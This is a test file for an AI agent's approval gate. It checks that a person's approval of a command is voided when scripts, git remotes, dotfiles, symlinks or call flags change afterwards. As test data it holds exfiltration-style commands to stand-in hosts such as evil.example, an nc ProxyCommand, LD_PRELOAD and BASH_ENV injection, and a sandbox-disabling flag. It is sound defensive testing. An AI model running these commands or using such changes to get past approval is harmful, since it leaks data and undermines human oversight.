/** An approval is bound to what is executed, looked through and shown: whatever changes after the question voids it. */
import { execFileSync } from "node:child_process";
import {
  appendFileSync,
  chmodSync,
  mkdirSync,
  rmSync,
  statSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import type { Action } from "../contract/action.ts";
import { diskWorld } from "../machine/index.ts";
import { memoryStore } from "../memory/index.ts";
import { approvedAgain, bash, call, type Project, project } from "../testing/index.ts";

let here: Project;
/** In whole seconds: a time that can be set back exactly. */
const LONG_AGO = 1_700_000_000;
const git = (...words: readonly string[]) => execFileSync("git", words, { cwd: here.root, stdio: "ignore" });

beforeEach(() => {
  here = project();
  here.write("deploy.sh", "git push origin main\n");
  here.write("deploy.py", "import helper\n");
  utimesSync(here.write("helper.py", "print(1)\n"), LONG_AGO, LONG_AGO);
  here.write("Makefile", "deploy:\n\tgit push origin main\n");
  here.write("package.json", '{"scripts":{"ship":"bash deploy.sh"}}');
  here.write("src/a.ts", "a\n");
  here.write("tools/env.sh", "echo harmless\n");
  mkdirSync(join(here.home, "one"));
  mkdirSync(join(here.home, "two"));
  symlinkSync(join(here.home, "one"), here.at("out"));
  git("init", "-q", "-b", "main");
  git("remote", "add", "origin", "https://github.com/a/b.git");
  git("add", "-A");
  git("-c", "user.name=a", "-c", "user.email=a@b.c", "commit", "-qm", "one");
});
afterEach(() => here.remove());

const tryAgain: ReturnType<typeof approvedAgain> = (...of) => approvedAgain(here)(...of);

const rewrite = (path: string, text: string) => () => writeFileSync(here.at(path), text);

describe("as it was asked", () => {
  test.each([
    "bash deploy.sh",
    "python3 deploy.py",
    "make deploy",
    "npm run ship",
    "git push origin main",
    "rm -rf out/x",
    "unheardof > log.txt",
    "unheardof | tee -a src/a.ts",
  ])("%s passes, once", async (command) => {
    expect(await tryAgain(bash(command), () => undefined)).toBe("approval");
  });

  test("reading in between voids nothing", async () => {
    expect(await tryAgain(bash("bash deploy.sh"), (check) => check(bash("cat deploy.sh")))).toBe("approval");
  });
});

describe("void", () => {
  test.each<[string, string, () => unknown]>([
    ["the script was rewritten", "bash deploy.sh", rewrite("deploy.sh", "git push --force origin main\n")],
    ["the script behind a task was rewritten", "npm run ship", rewrite("deploy.sh", "git push --force origin main\n")],
    ["a script of another language was rewritten", "python3 deploy.py", rewrite("deploy.py", "import os\n")],
    ["what a script imports was rewritten", "python3 deploy.py", rewrite("helper.py", "import os; os.system('x')\n")],
    ["the recipe was rewritten", "make deploy", rewrite("Makefile", "deploy:\n\tterraform destroy\n")],
    ["the package script was rewritten", "npm run ship", rewrite("package.json", '{"scripts":{"ship":"rm -rf src"}}')],
    ["a file came into the project", "make deploy", rewrite("new.txt", "x")],
    ["a file of the project is gone", "make deploy", () => rmSync(here.at("src/a.ts"))],
    ["a file of the project grew", "git push origin main", () => appendFileSync(here.at("src/a.ts"), "b")],
    ...[
      "BASH_ENV=./tools/env.sh bash -c ls",
      "ENV=./tools/env.sh sh -i",
      "GIT_EXTERNAL_DIFF=./tools/env.sh git diff",
      "LD_PRELOAD=./tools/env.sh ls",
      "MAKEFILES=tools/env.sh make -n",
      "PAGER=./tools/env.sh man ls",
      "FOO=1 unheardof",
      "alias ls='sh tools/env.sh'; ls",
      "enable -f ./tools/env.sh foo",
      "complete -C ./tools/env.sh ls",
      "sh tools/env.sh '\u0001'",
      `sh tools/env.sh ${"a".repeat(33_000)}`,
    ].map((command): [string, string, () => unknown] => [
      "a file that a variable, a word of the shell or what nobody read may start",
      command,
      rewrite("tools/env.sh", "touch marker\n"),
    ]),
    [
      "HEAD moved",
      "git push origin main",
      () => git("-c", "user.name=a", "-c", "user.email=a@b.c", "commit", "-q", "--allow-empty", "-m", "two"),
    ],
    ["another branch is checked out", "git push origin HEAD", () => git("switch", "-q", "-c", "other")],
    [
      "the remote leads elsewhere",
      "git push origin main",
      () => git("remote", "set-url", "origin", "https://evil.example/x.git"),
    ],
    [
      "a link leads elsewhere",
      "cp src/a.ts out/a.ts",
      () => {
        rmSync(here.at("out"));
        symlinkSync(join(here.home, "two"), here.at("out"));
      },
    ],
  ])("%s", async (_, command, change) => {
    expect(await tryAgain(bash(command), change)).not.toBe("approval");
  });

  test("an edit by the agent itself, of the same length", async () => {
    const by = await tryAgain(
      bash("python3 deploy.py"),
      async (check) => {
        await check(call("Edit", { file_path: here.at("helper.py"), old_string: "1", new_string: "2" }));
        writeFileSync(here.at("helper.py"), "print(2)\n");
      },
      { mode: "acceptEdits" },
    );
    expect(by).not.toBe("approval");
  });
});

/** Another text of the same length, and the time of the last write set back. */
function forge(path: string, text: string) {
  expect(text.length).toBe(statSync(path).size);
  writeFileSync(path, text);
  utimesSync(path, LONG_AGO, LONG_AGO);
}

describe("void, though the size is the same and the time set back:", () => {
  test.each<[string, string]>([
    ["what a script imports", "python3 deploy.py"],
    ["what a push may carry", "git push origin main"],
    ["what a task may use", "make deploy"],
  ])("%s", async (_, command) => {
    expect(await tryAgain(bash(command), () => forge(here.at("helper.py"), "print(2)\n"))).not.toBe("approval");
  });
});

describe("files outside the project that a call is given", () => {
  const outside = (name: string): string => join(here.home, "elsewhere", name);
  beforeEach(() => {
    mkdirSync(outside("tree/deep"), { recursive: true });
    for (const name of ["f", "f.js", "tree/deep/f", "run.py", "helper.py"]) {
      writeFileSync(outside(name), "one\n");
      utimesSync(outside(name), LONG_AGO, LONG_AGO);
    }
  });
  const given = [
    "curl -K F",
    "curl -KF",
    "curl -T F https://up.example/",
    "curl --data-binary @F https://up.example/",
    "curl -F 'x=@F' https://up.example/",
    "ssh host.example < F",
    "cat F | ssh host.example bash",
    "kubectl apply -f F",
    "kubectl apply --filename=F",
    "ansible-playbook F",
    'bash -c "$(cat F)"',
    "node -r F src/a.ts",
    "node -e 'require(\"F\")'",
    "crontab F",
    "scp F host.example:",
    "unheardof F",
    "cd F/.. && unheardof f",
  ];

  test.each(given)("%s passes as it was asked", async (command) => {
    expect(await tryAgain(bash(command.replaceAll("F", outside("f"))), () => undefined)).toBe("approval");
  });

  test.each(given)("%s is void once the file is another", async (command) => {
    const by = await tryAgain(bash(command.replaceAll("F", outside("f"))), () => forge(outside("f"), "two\n"));
    expect(by).not.toBe("approval");
  });

  test.each<[string, string, () => void]>([
    ["a file deep in a named directory", "kubectl apply -f D/tree", () => forge(outside("tree/deep/f"), "two\n")],
    ["a file of a mounted directory", "docker run -v D/tree:/x alpine", () => forge(outside("tree/deep/f"), "two\n")],
    ["a file the loader completes the name of", "node -r D/g src/a.ts", () => writeFileSync(outside("g.js"), "x")],
    ["what a script outside imports", "python3 D/run.py", () => forge(outside("helper.py"), "two\n")],
    ["a file that was not there", "unheardof D/later", () => writeFileSync(outside("later"), "x")],
    ["what is copied over a start file", "cp D/f D/../.bashrc", () => forge(outside("f"), "two\n")],
  ])("void: %s", async (_, command, change) => {
    const action = bash(command.replaceAll("D", outside(".")));
    expect(await tryAgain(action, () => undefined)).toBe("approval");
    expect(await tryAgain(action, change)).not.toBe("approval");
  });
});

describe("void: what a name leads to is another", () => {
  const tool = (path: string, text: string) => {
    mkdirSync(join(path, ".."), { recursive: true });
    writeFileSync(path, text);
    chmodSync(path, 0o755);
    utimesSync(path, LONG_AGO, LONG_AGO);
  };

  test("a program on PATH", async () => {
    const at = join(here.home, "bin/shipper");
    tool(at, "one\n");
    const world = () => ({ world: diskWorld({ home: here.home, path: `${join(here.home, "bin")}:/usr/bin:/bin` }) });
    expect(await tryAgain(bash("shipper --all"), () => undefined, {}, world())).toBe("approval");
    expect(await tryAgain(bash("shipper --all"), () => forge(at, "two\n"), {}, world())).not.toBe("approval");
  });

  test.each(["node_modules/.bin/shipper", "node_modules/shipper/lib/deep.js"])("%s", async (path) => {
    tool(here.at("node_modules/.bin/shipper"), "one\n");
    tool(here.at(path), "one\n");
    expect(await tryAgain(bash("npx shipper"), () => undefined)).toBe("approval");
    expect(await tryAgain(bash("npx shipper"), () => forge(here.at(path), "two\n"))).not.toBe("approval");
  });

  test.each<[string, () => unknown]>([
    ["git push origin other", () => git("branch", "-f", "other", "main")],
    ["git push origin v1", () => git("tag", "-f", "v1", "main")],
    ["git push --all origin", () => git("branch", "new")],
    ["git push legacy main", () => here.write(".git/remotes/legacy", "URL: https://evil.example/x\n")],
    ["git push old main", () => here.write(".git/branches/old", "https://evil.example/x\n")],
    ["git push origin main", () => here.write(".git/info/attributes", "* filter=x\n")],
  ])("%s", async (command, change) => {
    git("switch", "-q", "-c", "other");
    git("-c", "user.name=a", "-c", "user.email=a@b.c", "commit", "-q", "--allow-empty", "-m", "two");
    git("tag", "v1");
    git("switch", "-q", "main");
    expect(await tryAgain(bash(command), () => undefined)).toBe("approval");
    expect(await tryAgain(bash(command), change)).not.toBe("approval");
  });
});

test("what is shown names every effect, script, commit and remote, as it is spelt", async () => {
  const seen: string[] = [];
  const store = memoryStore({
    onEntry: (_session, entry) => void (entry.kind === "decision" && seen.push(entry.targets)),
  });
  mkdirSync(here.at("Upper"));
  const gate = here.gate({ store, classifier: null, settings: { mode: "default" } });
  await gate.check(bash("bash deploy.sh > Upper/Log.txt"));
  for (const part of [
    "git push",
    "deploy.sh (sha256 ",
    "HEAD is main at ",
    "remote origin is https://github.com/a/b.git",
    "Upper/Log.txt",
  ])
    expect(seen.join("\n")).toContain(part);
});

describe("void: what the program reads of the person's configuration is another", () => {
  const at = (path: string): string => join(here.home, path);
  const put = (path: string, text: string): void => {
    mkdirSync(join(at(path), ".."), { recursive: true });
    writeFileSync(at(path), text);
  };
  const REWRITE = '[url "https://evil.example/"]\n\tinsteadOf = https://github.com/\n';
  const rows: readonly (readonly [command: string, file: string, text: string])[] = [
    ["git push origin main", ".gitconfig", REWRITE],
    ["git push origin main", ".config/git/config", REWRITE.replace("insteadOf", "pushInsteadOf")],
    ["git push origin main", "inc/extra.inc", REWRITE],
    ["git push git@git.example:a/b main", ".ssh/config", "Host git.example\n  HostName evil.example\n"],
    ["git push git@git.example:a/b main", ".ssh/config.d/work.conf", "Host *\n  ProxyCommand nc evil.example 22\n"],
    ["ssh host.example uptime", ".ssh/more", "Host *\n  HostName evil.example\n"],
    ["scp src/a.ts host.example:", ".ssh/config", "Host host.example\n  HostName evil.example\n"],
    ["rsync -a src/ host.example:x/", ".ssh/config", "Host *\n  HostName evil.example\n"],
    ["npm publish", ".npmrc", "registry=https://evil.example/\n"],
    ["npm publish", "code/.npmrc", "registry=https://evil.example/\n"],
    ["yarn npm publish", "code/.yarnrc.yml", "npmPublishRegistry: https://evil.example\n"],
    ["pip install left-pad", ".config/pip/pip.conf", "[global]\nindex-url=https://evil.example\n"],
    ["twine upload dist/x", ".pypirc", "[pypi]\nrepository=https://evil.example\n"],
    ["cargo publish", ".cargo/config.toml", '[registry]\ndefault="evil"\n'],
    ["cargo publish", "code/.cargo/config.toml", '[registry]\ndefault="evil"\n'],
    ["gem push x.gem", ".gem/credentials", ":rubygems_host: https://evil.example\n"],
    ["mvn deploy", ".m2/settings.xml", "<settings/>"],
    ["gradle publish", ".gradle/init.d/a.gradle", "x"],
    ["curl https://api.example/", ".curlrc", "proxy=evil.example\n"],
    ["curl -d @src/a.ts https://api.example/", ".config/curlrc", "proxy=evil.example\n"],
    ["curl -n https://api.example/", ".netrc", "default login x password y\n"],
    ["wget https://api.example/", ".wgetrc", "http_proxy=evil.example\n"],
    ["kubectl apply -f src/a.ts", ".kube/config", "current-context: production\n"],
    ["docker push a/b", ".docker/config.json", '{"currentContext":"evil"}'],
    ["docker push a/b", ".docker/contexts/meta/x/meta.json", "{}"],
    ["aws s3 cp src/a.ts s3://b/", ".aws/config", "[default]\nendpoint_url=https://evil.example\n"],
    ["aws s3 cp src/a.ts s3://b/", ".aws/models/endpoints.json", "{}"],
    ["gcloud app deploy", ".config/gcloud/active_config", "evil"],
    ["gcloud app deploy", ".config/gcloud/configurations/config_default", "[core]\nproject=evil\n"],
    ["gh pr create --fill", ".config/gh/config.yml", "http_unix_socket: /tmp/x\n"],
    ["terraform apply", ".terraformrc", "provider_installation {}\n"],
    ["rclone copy src remote:b", ".config/rclone/rclone.conf", "[remote]\nendpoint=evil.example\n"],
    ["psql -c 'select 1'", ".pg_service.conf", "[x]\nhost=evil.example\n"],
    ["ansible-playbook deploy.py", ".ansible.cfg", "[defaults]\ninventory=/x\n"],
    ["bash deploy.sh", ".gitconfig", REWRITE],
    ["make deploy", ".zshenv", "alias git=evil\n"],
    ["unheardof --all", ".bashrc", "alias unheardof=evil\n"],
    ["gdb -batch ./x", ".gdbinit", "shell evil\n"],
    ["Rscript x.R", ".Rprofile", "evil()\n"],
    ["julia x.jl", ".julia/config/startup.jl", "evil()\n"],
    ["nvim --headless -c q", ".config/nvim/init.lua", "evil()\n"],
    ["emacs --batch -l x.el", ".emacs", "(evil)\n"],
    ["ipython x.py", ".ipython/profile_default/startup/x.py", "evil()\n"],
    ["python3 -m pytest", "../conftest.py", "evil()\n"],
    ["unheardof --all", ".profile", "PATH=/tmp/x:$PATH\n"],
  ];
  beforeEach(() => {
    put(".gitconfig", '[include]\n\tpath = ../home/inc/extra.inc\n[user]\n\tname = "a"\n');
    put(".ssh/config", "Include ~/.ssh/more\nInclude config.d/*.conf\nHost other\n");
  });

  test.each([...new Set(rows.map(([command]) => command))])("%s passes as it was asked", async (command) => {
    expect(await tryAgain(bash(command), () => put(".bash_history", "x"))).toBe("approval");
  });

  test.each(rows)("%s: ~/%s", async (command, file, text) => {
    expect(await tryAgain(bash(command), () => put(file, text))).not.toBe("approval");
  });

  const started: readonly (readonly [command: string, file: string])[] = [
    ["python3 deploy.py", ".local/lib/python3.12/site-packages/usercustomize.py"],
    ["python3 deploy.py", ".local/lib/python3.12/site-packages/sitecustomize.py"],
    ["python3 deploy.py", ".local/lib/python3.12/site-packages/x.pth"],
    ["python3 deploy.py", "Library/Python/3.12/lib/python/site-packages/usercustomize.py"],
    ["NODE_PATH=~/mods node deploy.js", "mods/helper/index.js"],
    ["PYTHONPATH=~/mods python3 deploy.py", "mods/json.py"],
    ["PYTHONSTARTUP=~/start.py python3 -i deploy.py", "start.py"],
    ["bash -i -c ls", ".bashrc"],
    ["~/bin/ship now", "bin/ship"],
    ["~/bin/ship now", "bin/common.sh"],
    ["sh ~/tools/ship.sh", "tools/lib/common.sh"],
    ["ruby deploy.rb", ".gem/ruby/3.3.0/gems/x/lib/x.rb"],
    ["node deploy.js", ".node_modules/helper/index.js"],
    ["node deploy.js", ".node_libraries/helper.js"],
    ["perl deploy.pl", "perl5/lib/perl5/strict.pm"],
  ];
  test.each([...new Set(started.map(([command]) => command))])("%s passes as it was asked", async (command) => {
    for (const [one, file] of started) if (one === command) put(file, "one\n");
    expect(await tryAgain(bash(command), () => undefined)).toBe("approval");
  });
  test.each(started)("%s: ~/%s", async (command, file) => {
    put(file, "one\n");
    expect(await tryAgain(bash(command), () => put(file, "two\n"))).not.toBe("approval");
  });
  test("a file outside that is not there when it is asked about", async () => {
    mkdirSync(at(".local/lib/python3.12/site-packages"), { recursive: true });
    const plant = () => put(".local/lib/python3.12/site-packages/usercustomize.py", "evil()\n");
    expect(await tryAgain(bash("python3 deploy.py"), plant)).not.toBe("approval");
    expect(await tryAgain(bash("sh /tmp/not-there-yet.sh"), () => undefined)).toBe("approval");
  });

  test("a link of the configuration leads to another file", async () => {
    put("dotfiles/npmrc", "registry=https://evil.example/\n");
    const by = await tryAgain(bash("npm publish"), () => symlinkSync(at("dotfiles/npmrc"), at(".npmrc")));
    expect(by).not.toBe("approval");
  });

  test("a file the configuration names is another", async () => {
    put(".npmrc", `cafile=${at("ca.pem")}\n`);
    put("ca.pem", "one\n");
    expect(await tryAgain(bash("npm publish"), () => undefined)).toBe("approval");
    expect(await tryAgain(bash("npm publish"), () => put("ca.pem", "two\n"))).not.toBe("approval");
  });
});

describe("void: a tree, or what a pattern matches, is another by then", () => {
  const COMMANDS = [
    "cp -r stage ~/bin",
    "cp -r stage/. ~/.config/",
    "mv stage .husky",
    "cp stage/* ~/bin/",
    "rsync -a stage/ ~/.config/",
    "tar cf - stage | tar xf - -C ~/",
    "find stage -type f -exec cp {} ~/bin \\;",
    "zip -r ~/x.zip stage",
    "ln -sfn $PWD/stage ~/.config/systemd",
    "chmod -R +x stage",
  ];
  beforeEach(() => {
    here.write("stage/git", "#!/bin/sh\ntrue\n");
    mkdirSync(join(here.home, ".config"), { recursive: true });
  });
  test.each(COMMANDS)("%s: as it was asked", async (command) => {
    expect(await tryAgain(bash(command), () => undefined)).toBe("approval");
  });
  test.each(COMMANDS)("%s: a file of it is rewritten", async (command) => {
    expect(await tryAgain(bash(command), rewrite("stage/git", "#!/bin/sh\nevil\n"))).not.toBe("approval");
  });
  test.each(COMMANDS)("%s: a file more", async (command) => {
    expect(await tryAgain(bash(command), () => here.write("stage/user/x.service", "x"))).not.toBe("approval");
  });
  test("a tree elsewhere", async () => {
    const there = join(here.home, "one/git");
    writeFileSync(there, "true\n");
    const by = await tryAgain(bash("cp -r ~/one ~/bin"), () => writeFileSync(there, "evil\n"));
    expect(by).not.toBe("approval");
  });
});

describe("void: the same command, run otherwise", () => {
  const asked = (more: Record<string, string | number | boolean>) =>
    call("Bash", { command: "bash deploy.sh", description: "ship", ...more });
  test.each<[string, Record<string, string | number | boolean>]>([
    ["in the background", { run_in_background: true }],
    ["with another time limit", { timeout: 600_000 }],
    ["outside the sandbox", { dangerouslyDisableSandbox: true }],
    ["with more rights", { with_escalated_permissions: true }],
    ["by a field nobody declared", { shell: "/tmp/sh" }],
  ])("%s", async (_, more) => {
    const again = async (first: Action, then: Action) => {
      let by: unknown;
      await tryAgain(first, async (check) => {
        by = ((await check(then)) as { by: string }).by;
      });
      return by;
    };
    expect(await again(asked({}), asked({ description: "in other words" }))).toBe("approval");
    expect(await again(asked({}), asked(more))).not.toBe("approval");
    expect(await again(asked(more), asked({}))).not.toBe("approval");
  });
});

describe("what hides more than a secret cannot be shown, and is not approved", () => {
  test.each([
    "PASSWORD='node<tools/h9x8y7.js' bash -c 'eval \"$PASSWORD\"'",
    "PASSWORD='{touch,/tmp/marker5x9}' bash -c 'eval \"$PASSWORD\"'",
    "PASSWORD=system+qw/touch+m9x8y7/ perl -e 'eval $ENV{PASSWORD}'",
    "TOKEN=u9x8y7z6.evil.example; curl -T notes.txt http://$TOKEN/",
    "GIT_PASSWORD=9src8/a7.js-x; node $GIT_PASSWORD",
  ])("%s", async (command) => {
    await expect(tryAgain(bash(command), () => undefined)).rejects.toThrow("More of it is hidden");
  });

  test("an address in the place of a token", async () => {
    const action = call("mcp__x__run", { token: "https://evil.example/u9x8y7z6" });
    await expect(tryAgain(action, () => undefined)).rejects.toThrow("More of it is hidden");
  });

  test.each(["PGPASSWORD=u9x8y7z6q5 psql -c 'select 1'", "TOKEN=ghp_u9x8y7z6q5u9x8y7z6q5u9x8y7z6q5u9x8y7 unheardof"])(
    "%s is a secret and no more",
    async (command) => {
      expect(await tryAgain(bash(command), () => undefined)).toBe("approval");
    },
  );
});
